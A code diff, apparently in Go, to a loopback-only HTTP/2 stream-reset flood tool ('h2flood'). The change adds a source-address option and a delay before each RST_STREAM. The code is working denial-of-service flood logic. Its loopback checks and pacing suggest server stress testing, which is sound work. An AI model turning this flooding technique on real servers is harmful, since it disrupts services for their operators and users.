@@ -29,11 +29,16 @@ type Result struct {
 // Options say where and how hard to flood.
 type Options struct {
 	Addr    string        // a loopback address
+	From    string        // the loopback IP address to send from (e.g. 127.0.0.2); default any
 	Host    string        // SNI and :authority
 	Path    string        // :path; default "/"
 	Streams int           // at most this many streams
 	Wait    time.Duration // after the last stream, how long to wait for a GOAWAY not seen yet
 	TLS     *tls.Config   // roots and such; nil: no verification
+	// ResetAfter, if set, sends each RST_STREAM this long after its
+	// HEADERS, in a write of its own: a reset that comes after the server
+	// has started the request.
+	ResetAfter time.Duration
 	// Pace, if set, bounds the streams per second (taken in batches of
 	// 100), so that floods compared side by side offer the same load.
 	Pace *rate.Limiter
@@ -55,7 +60,14 @@ func Run(ctx context.Context, o Options) (Result, error) {
 		cfg = roots.Clone()
 	}
 	cfg.ServerName, cfg.NextProtos = host, []string{"h2"}
-	d := tls.Dialer{Config: cfg}
+	d := tls.Dialer{Config: cfg, NetDialer: &net.Dialer{}}
+	if o.From != "" {
+		ip := net.ParseIP(o.From)
+		if ip == nil || !ip.IsLoopback() {
+			return res, fmt.Errorf("h2flood: %q is not a loopback IP address", o.From)
+		}
+		d.NetDialer.LocalAddr = &net.TCPAddr{IP: ip}
+	}
 	c, err := d.DialContext(ctx, "tcp", addr)
 	if err != nil {
 		return res, fmt.Errorf("h2flood: dial: %w", err)
@@ -107,9 +119,14 @@ func Run(ctx context.Context, o Options) (Result, error) {
 			_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
 		}
 		id := uint32(2*i + 1)
-		if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndStream: true, EndHeaders: true}) != nil ||
-			fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil || bw.Flush() != nil {
+		if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndStream: true, EndHeaders: true}) != nil {
 			break // the server closed the connection
+		}
+		if o.ResetAfter > 0 && (bw.Flush() != nil || sleep(ctx, o.ResetAfter) != nil) {
+			break
+		}
+		if fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil || bw.Flush() != nil {
+			break
 		}
 		res.Streams++
 	}
@@ -122,4 +139,15 @@ func Run(ctx context.Context, o Options) (Result, error) {
 	case <-ctx.Done():
 	}
 	return res, nil
+}
+
+func sleep(ctx context.Context, d time.Duration) error {
+	t := time.NewTimer(d)
+	defer t.Stop()
+	select {
+	case <-t.C:
+		return nil
+	case <-ctx.Done():
+		return ctx.Err()
+	}
 }
